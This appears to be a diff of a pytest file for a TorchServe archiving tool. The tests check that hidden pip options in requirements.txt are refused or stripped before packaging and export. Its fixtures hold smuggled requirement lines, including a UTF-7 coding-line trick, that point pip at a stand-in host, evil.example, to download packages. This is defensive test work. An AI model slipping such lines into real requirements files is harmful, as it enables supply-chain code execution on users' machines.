@@ -931,16 +931,9 @@ HIDDEN_REQUIREMENTS = {
     "leading --hash hides --index-url": "  --hash=sha256:00 --index-url https://evil.example/simple\nnumpy\n",
     "utf-7 coding line": "# coding: utf-7 +AAo---index-url https://evil.example/simple+AAo-x @ https://evil.example/x.whl\n",
 }
-HIDDEN = "check() strips ' --hash...' (pip: options) and comments pip reads through its PEP 263 coding line"
 
 
-@pytest.mark.parametrize(
-    "text",
-    REQUIREMENT_TEXTS
-    + [
-        pytest.param(text, marks=pytest.mark.xfail(strict=True, reason=HIDDEN)) for text in HIDDEN_REQUIREMENTS.values()
-    ],
-)
+@pytest.mark.parametrize("text", REQUIREMENT_TEXTS + list(HIDDEN_REQUIREMENTS.values()))
 def test_what_check_passes_pip_reads_the_same(text):
     """Every accepted text: pip reads its raw bytes as it reads the lines check() returned, or check() refused it."""
     from archiver import requirements
@@ -957,12 +950,13 @@ def test_what_check_passes_pip_reads_the_same(text):
     assert raw == pip_lines("".join(line + "\n" for line in checked).encode()), (text, checked, raw)
 
 
-@pytest.mark.xfail(strict=True, reason="package checks the requirements file, then writes its raw lines into the .mar")
 @pytest.mark.parametrize("case", list(HIDDEN_REQUIREMENTS))
 def test_package_writes_only_what_it_checked_into_the_archive(tmp_path, case):
     """TorchServe's per-model install (serve --install-deps, any TorchServe with install_py_dep_per_model)
-    runs pip install -r on the archive's requirements.txt as package wrote it."""
+    runs pip install -r on the archive's requirements.txt as package wrote it: it holds only what pip reads
+    as plain requirements, or package refuses the file in one line."""
     from archiver import mar
+    from archiver.errors import UserError
 
     source = tmp_path / "requirements.txt"
     source.write_bytes(HIDDEN_REQUIREMENTS[case].encode())
@@ -971,39 +965,55 @@ def test_package_writes_only_what_it_checked_into_the_archive(tmp_path, case):
         model_name="tiny", handler="image_classifier", export_path=str(tmp_path / "store"), force=True,
         serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")), requirements_file=str(source),
     )  # fmt: skip
-    archive = mar.package(options)  # accepted: check() found nothing but comments or plain requirements
+    try:
+        archive = mar.package(options)  # accepted: check() found nothing but comments or plain requirements
+    except UserError as exc:
+        assert "\n" not in str(exc) and f"--requirements-file {source}, line " in str(exc), str(exc)
+        return
     carried = archives.read_member(archive, "requirements.txt", 1 << 20)
     assert plain(carried), pip_lines(carried)
 
 
 def test_the_image_requirements_of_both_exports_hold_only_checked_lines(tmp_path):
-    """An archive carrying hidden lines (as package writes them): export kserve --engine kserve and export
-    seldon write only check()'s lines into their image's requirements.txt."""
+    """An archive carrying hidden lines (package refuses them: the archive is rewritten to carry them):
+    export kserve --engine kserve and export seldon refuse them in one line naming the file, or write only
+    check()'s lines into their image's requirements.txt."""
     from archiver import kserve, mar, properties, seldon
+    from archiver.errors import UserError
 
     source = tmp_path / "requirements.txt"
-    source.write_text("".join(HIDDEN_REQUIREMENTS.values()) + "packaging>=20\n")
+    source.write_text("packaging>=20\n")
     options = mar.PackageOptions(
         model_name="tiny", handler="image_classifier", export_path=str(tmp_path / "tree" / "model-store"),
         serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")), requirements_file=str(source), force=True,
     )  # fmt: skip
-    mar.package(options)
+    packaged = mar.package(options)
+    hidden = ("".join(HIDDEN_REQUIREMENTS.values()) + "packaging>=20\n").encode()
+    mar.rewrite_archive(packaged, tmp_path / "tiny.mar", {"requirements.txt": hidden})
+    os.replace(tmp_path / "tiny.mar", packaged)
     config = tmp_path / "tree" / "config" / "config.properties"
     properties.write_config(tmp_path / "tree" / "model-store", config)
-    kserve.export(
-        kserve.ExportOptions(
-            out=str(tmp_path / "kserve"), name="demo", storage_uri="pvc://models/demo", config=str(config),
-            model_store=str(tmp_path / "tree" / "model-store"), engine="kserve", image="registry.example/tsctl:1",
-        )
-    )  # fmt: skip
-    seldon.export(
-        seldon.SeldonOptions(
-            out=str(tmp_path / "seldon"), image="registry.example/mlserver:1", config=str(config),
-            model_store=str(tmp_path / "tree" / "model-store"),
-        )
-    )  # fmt: skip
-    for image in (tmp_path / "kserve").rglob("requirements.txt"), (tmp_path / "seldon").rglob("requirements.txt"):
-        images = list(image)
+    exports = {
+        "kserve": lambda: kserve.export(
+            kserve.ExportOptions(
+                out=str(tmp_path / "kserve"), name="demo", storage_uri="pvc://models/demo", config=str(config),
+                model_store=str(tmp_path / "tree" / "model-store"), engine="kserve", image="registry.example/tsctl:1",
+            )
+        ),
+        "seldon": lambda: seldon.export(
+            seldon.SeldonOptions(
+                out=str(tmp_path / "seldon"), image="registry.example/mlserver:1", config=str(config),
+                model_store=str(tmp_path / "tree" / "model-store"),
+            )
+        ),
+    }  # fmt: skip
+    for out, export in exports.items():
+        try:
+            export()
+        except UserError as exc:
+            assert "\n" not in str(exc) and "requirements.txt, line " in str(exc), str(exc)
+            continue
+        images = list((tmp_path / out).rglob("requirements.txt"))
         assert images
         for written in images:
             data = written.read_bytes()
